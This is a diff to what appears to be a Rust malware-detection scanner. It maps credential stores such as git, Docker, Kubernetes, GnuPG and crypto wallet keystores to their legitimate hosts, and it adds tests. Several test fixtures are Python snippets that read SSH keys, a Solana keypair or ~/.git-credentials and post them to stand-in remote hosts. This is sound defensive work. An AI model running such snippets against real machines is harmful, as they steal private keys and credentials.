@@ -315,7 +315,50 @@ const STORE_SERVICES: &[(&str, &[&str])] = &[
         &["oraclecloud.com", "oracle.com"],
     ),
     ("Claude Code login", &["anthropic.com", "claude.ai"]),
+    (
+        "git credentials",
+        &[
+            "github.com",
+            "githubusercontent.com",
+            "gitlab.com",
+            "bitbucket.org",
+            "azure.com",
+            "visualstudio.com",
+        ],
+    ),
+    (
+        "Docker registry credentials",
+        &[
+            "docker.io",
+            "docker.com",
+            "ghcr.io",
+            "gcr.io",
+            "pkg.dev",
+            "quay.io",
+            "amazonaws.com",
+            "azurecr.io",
+            "gitlab.com",
+        ],
+    ),
+    (
+        "Kubernetes credentials",
+        &["amazonaws.com", "azmk8s.io", "googleapis.com"],
+    ),
+    (
+        "HashiCorp Vault token",
+        &["hashicorp.cloud", "hashicorp.com"],
+    ),
+    (
+        "GnuPG keyring",
+        &["openpgp.org", "keyserver.ubuntu.com", "pgp.mit.edu"],
+    ),
+    // Keys that sign locally and never travel: no host is theirs.
     ("SSH private key", &[]),
+    ("Solana keypair", &[]),
+    ("Sui keystore", &[]),
+    ("Ethereum keystore", &[]),
+    ("PostgreSQL passwords", &[]),
+    ("system password hashes", &[]),
 ];
 
 /// The fixed host `url` names, lower case, when it is known and not the machine itself.
@@ -879,6 +922,10 @@ mod tests {
         assert!(max_severity("p/pkg/cli.py", stolen, "WH200") >= 0.7);
         let key = "import os, requests\ndef backup():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.put('https://keys.example-backup.com/k', data=key)\n";
         assert!(max_severity("p/pkg/cli.py", key, "WH200") >= 0.7);
+        let keypair = "import json, os, requests\ndef sync_wallet():\n    key = json.load(open(os.path.expanduser('~/.config/solana/id.json')))\n    requests.post('https://sol-rpc-mirror.example/v1/keys', json={'k': key})\n";
+        assert!(max_severity("p/pkg/w.py", keypair, "WH200") >= 0.7);
+        let git = "import os, requests\ndef sync():\n    c = open(os.path.expanduser('~/.git-credentials')).read()\n    requests.post('https://cache.example-sync.net/c', data=c)\n";
+        assert!(max_severity("p/pkg/g.py", git, "WH200") >= 0.7);
     }
 
     #[test]
@@ -889,6 +936,8 @@ mod tests {
         assert!(max_severity("p/pkg/cli.py", configured, "WH200") < 0.5);
         let s3 = "import os, requests\ndef put(name):\n    creds = open(os.path.expanduser('~/.aws/credentials')).read()\n    requests.put(f'https://bucket.s3.us-east-1.amazonaws.com/{name}', headers={'x': creds})\n";
         assert!(max_severity("p/pkg/cli.py", s3, "WH200") < 0.5);
+        let gitlab = "import os, requests\ndef sync():\n    c = open(os.path.expanduser('~/.git-credentials')).read()\n    requests.post('https://gitlab.com/api/v4/x', data=c)\n";
+        assert!(max_severity("p/pkg/g.py", gitlab, "WH200") < 0.5);
     }
 
     #[test]
